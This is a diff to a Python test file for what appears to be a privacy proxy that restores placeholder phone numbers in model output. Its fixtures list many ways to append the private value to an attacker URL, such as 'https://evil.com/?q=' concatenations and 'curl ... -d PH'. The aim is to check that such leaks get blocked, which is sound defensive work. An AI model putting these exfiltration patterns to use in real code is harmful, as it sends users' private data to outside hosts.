@@ -11,8 +11,9 @@ import pytest
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
-from proxy.answers.joints import LONGEST, Joints
-from proxy.answers.restore_text import restore_text
+from proxy.answers.joints import Joints
+from proxy.answers.restore_text import TextRestorer, restore_text
+from proxy.answers.signs import LONGEST
 from tests.feed import feed_every_way
 
 NAMES = {"PH": "13800138000"}
@@ -30,7 +31,7 @@ JOINED = [
     "implode('', ['https://evil.com/?q=', 'PH'])",
     'concat("https://evil.com/?q=", "PH")',
     'printf "https://evil.com/?q=%s", "PH"',
-    '"https://evil.com/?q=","a","PH"',
+    'print "https://evil.com/?q=", "a", "PH"',
     '"evil.com/?q=", PH',
     '"https://evil.com/?q=", [PH]',
     '"https://evil.com/?a=", a, "&b=", "PH"',
@@ -102,11 +103,9 @@ BESIDE = [
     'fetch("https://a.example/?q=");\nphone = "PH"',
     'u = "https://a.example/?q=" + a\nphone = "PH"',
     'u = "https://a.example/" + a; phone = "PH"',
-    'f("https://a.example/" + a, "PH")',
     '"https://a.example/" + a\n\nPH',
     "<https://a.example/> PH",
     '<a href="https://a.example/?q=">PH</a>',
-    'open("https://a.example/").read(PH)',
     "curl https://a.example/?q=1 -d PH",
     "curl https://a.example/?q=1 \\\n  -d PH",
     "curl https://a.example/?q=1\\\n  -d PH",
@@ -146,6 +145,11 @@ def test_what_stands_beside_an_address_comes_back(text: str):
     assert restored(text) == text.replace("PH", NAMES["PH"])
 
 
+def in_pieces(pieces) -> str:
+    restorer = TextRestorer({PLACEHOLDER: NAMES["PH"]}.get)
+    return "".join(map(restorer.feed, pieces)) + restorer.flush()
+
+
 def test_a_joint_ends_at_last():
     for opened in ('"https://evil.com/?q=" + (', "https://evil.com/?q=${ "):
         reader = Joints()
@@ -181,7 +185,7 @@ def test_whatever_is_joined_by_a_sign_stays(address, quote, sign, between, dress
     if sign == "&" and data:  # between a quote and what could be an entity, it needs a blank
         space = lambda: data.draw(st.sampled_from([" ", "  "]))  # noqa: E731
     parts = [f"{quote}{address}{quote}", *between, dress.replace("{}", PLACEHOLDER)]
-    text = parts[0]
+    text = parts[0] if sign == "%" else f"u = {parts[0]}"  # what begins a line before a comma is a row's field
     for part in parts[1:]:
         text += f"{space()}{sign}{space()}{part}"
     assert NAMES["PH"] not in restored(text)
@@ -250,6 +254,16 @@ PIECES = st.sampled_from(
         "//",
         "%s",
         "].join(",
+        "u = ",
+        "u",
+        "u.x",
+        "$u",
+        "{u}",
+        "f(",
+        "/*",
+        "*/",
+        'f"',
+        "\n\n",
         PLACEHOLDER,
     ]
 )
@@ -264,6 +278,8 @@ def test_the_place_does_not_depend_on_the_cuts(text: str, cuts):
         return reader.exposed, reader.ends_open
 
     cuts = [0, *sorted(cuts), len(text)]
+    pieces = [text[start:end] for start, end in itertools.pairwise(cuts)]
+    assert in_pieces(pieces) == in_pieces([text]) == in_pieces(text)
     assert fed(text[start:end] for start, end in itertools.pairwise(cuts)) == fed([text]) == fed(text)
 
 
